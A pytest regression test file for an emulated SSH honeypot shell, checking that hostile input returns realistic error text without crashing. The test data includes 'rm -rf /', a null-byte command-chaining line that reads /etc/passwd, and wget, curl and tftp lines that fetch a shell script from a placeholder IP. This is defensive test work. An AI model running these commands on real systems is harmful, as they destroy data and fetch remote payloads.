"""Regression tests for hostile lines that used to raise out of the shell.

Redirecting output onto a directory raised ``IsADirectoryError`` from
``FakeFilesystem.write``, ``rm -rf /`` raised ``KeyError: '/'`` from
``FakeFilesystem.remove``, and a fetcher saving onto a directory raised
``IsADirectoryError`` from ``ShellContext.record_download``.  All must now
answer with error text, leave the filesystem as it was, and keep the
session alive.
"""

import pytest

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.honeypot import Honeypot, HoneypotConfig
from repro.honeypot.session import SessionState
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.shell import EmulatedShell
from repro.net.tcp import SSH_PORT

#: ``>`` and ``>>`` are what the parser splits off; the rest are spellings
#: hostile input uses that reach the same redirection code.
OPERATORS = (">", ">>", "2>", "&>", ">|", "2>&1 >")
DIRECTORIES = ("/", "/tmp", "/tmp/", "/var", ".", "..")
REDIRECT_LINES = [f"echo x {op} {d}" for op in OPERATORS for d in DIRECTORIES]
RM_ROOT_LINES = ["rm -rf /", "cat /etc/passwd\x00; rm -rf /", "rm -fr /.."]
RM_ROOT_TEXT = (
    "rm: it is dangerous to operate recursively on '/'\n"
    "rm: use --no-preserve-root to override this failsafe"
)

#: Fetcher lines whose output path is a directory, with the tool's answer
#: (the last command's output).
FETCH_ONTO_DIR = {
    "wget -O /tmp http://198.51.100.7/x.sh":
        "wget: can't open '/tmp': Is a directory",
    "busybox wget -O /var http://198.51.100.7/x.sh":
        "wget: can't open '/var': Is a directory",
    "curl -o /tmp http://198.51.100.7/x.sh":
        "Warning: Failed to create the file /tmp: Is a directory\n"
        "curl: (23) Failure writing output to destination",
    "tftp -l /tmp -r x -g 198.51.100.7":
        "tftp: can't open '/tmp': Is a directory",
    "cd /; wget http://198.51.100.7/tmp":
        "wget: can't open '/tmp': Is a directory",
    "ftpget 198.51.100.7 /var x":
        "ftpget: can't open '/var': Is a directory",
}


def _snapshot(fs):
    return {path: (e.is_dir, e.content) for path, e in fs._entries.items()}


@pytest.fixture
def shell():
    return EmulatedShell(ShellContext(fs=FakeFilesystem()))


class TestRedirectOntoDirectory:
    @pytest.mark.parametrize("line", REDIRECT_LINES)
    def test_never_raises_and_leaves_fs(self, shell, line):
        before = _snapshot(shell.context.fs)
        shell.execute(line)
        # ``2>`` and friends may write a stray file; no directory changes.
        after = _snapshot(shell.context.fs)
        assert {p for p, v in after.items() if v[0]} == {
            p for p, v in before.items() if v[0]
        }

    @pytest.mark.parametrize("op", (">", ">>"))
    @pytest.mark.parametrize("target", DIRECTORIES)
    def test_bash_error_text(self, shell, op, target):
        before = _snapshot(shell.context.fs)
        result = shell.execute(f"echo x {op} {target}")
        assert result.commands[0].output == f"bash: {target}: Is a directory"
        assert result.file_changes == []
        assert _snapshot(shell.context.fs) == before

    def test_command_does_not_run(self, shell):
        shell.execute("echo x > /tmp; touch /tmp/marker > /var")
        assert not shell.context.fs.exists("/tmp/marker")

    def test_file_redirect_still_writes(self, shell):
        result = shell.execute("echo hi > /tmp/out")
        assert shell.context.fs.read("/tmp/out") == b"hi\n"
        assert len(result.file_changes) == 1


class TestRmRoot:
    @pytest.mark.parametrize("line", RM_ROOT_LINES)
    def test_refuses_with_gnu_text(self, shell, line):
        before = _snapshot(shell.context.fs)
        result = shell.execute(line)
        assert result.commands[-1].output == RM_ROOT_TEXT
        assert _snapshot(shell.context.fs) == before

    def test_other_operands_still_removed(self, shell):
        shell.execute("touch /tmp/a")
        result = shell.execute("rm -rf / /tmp/a")
        assert result.commands[0].output == RM_ROOT_TEXT
        assert not shell.context.fs.exists("/tmp/a")
        assert shell.context.fs.is_dir("/tmp")


class TestFetchOntoDirectory:
    @pytest.mark.parametrize("line", sorted(FETCH_ONTO_DIR))
    def test_tool_error_text_and_no_write(self, shell, line):
        before = _snapshot(shell.context.fs)
        result = shell.execute(line)
        assert result.commands[-1].output == FETCH_ONTO_DIR[line]
        assert result.file_changes == []
        assert _snapshot(shell.context.fs) == before
        assert [d.sha256 for d in shell.context.downloads] == [None]
        assert not shell.context.downloads[0].success

    def test_file_target_still_saves(self, shell):
        result = shell.execute("wget -O /tmp/x http://198.51.100.7/x.sh")
        assert result.file_changes[0].path == "/tmp/x"
        assert shell.context.downloads[0].sha256 is not None


class TestLiveSession:
    @pytest.mark.parametrize(
        "line", REDIRECT_LINES + RM_ROOT_LINES + sorted(FETCH_ONTO_DIR)
    )
    def test_session_survives(self, line):
        hp = Honeypot(HoneypotConfig("hp-crash", 1, "US", 1))
        session = hp.accept(2, 40000, SSH_PORT, now=0.0)
        assert session.try_login("root", "1234", 1.0).success
        session.input_line(line, 2.0)
        result = session.input_line("echo alive", 3.0)
        assert result.commands[0].output == "alive"
        assert session.state is SessionState.SHELL
        assert session.shell_context.fs.is_dir("/tmp")
